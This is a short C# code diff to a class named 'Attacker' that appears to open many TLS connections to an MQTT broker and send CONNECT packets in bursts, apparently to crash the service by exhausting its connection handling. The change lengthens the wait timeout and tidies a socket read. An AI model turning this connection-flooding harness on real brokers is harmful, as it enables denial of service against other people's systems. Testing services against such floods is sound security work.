@@ -20,8 +20,8 @@ public sealed class Attacker(CrashOptions options)
     private const int Connections = 4;
     private const int Burst = 64;
 
-    /// <summary>The service gives a peer 5 s for each step, looks once a second, and closes thousands of them.</summary>
-    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(20);
+    /// <summary>The service gives a peer 5 s for each step; one that has said hello may wait for a minute before its turn comes.</summary>
+    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(90);
 
     private readonly List<Socket> _sockets = [];
 
@@ -157,7 +157,7 @@ public sealed class Attacker(CrashOptions options)
             PacketWriter.Connect(output, new ConnectPacket { Level = ProtocolLevel.V311, ClientId = clientId, CleanStart = true, KeepAliveSeconds = 60 });
             await tls.WriteAsync(output.Written, ct);
             var answer = new byte[4];
-            await tls.ReadAsync(answer, ct);
+            _ = await tls.ReadAsync(answer.AsMemory(), ct);
             return tls;
         }
         catch
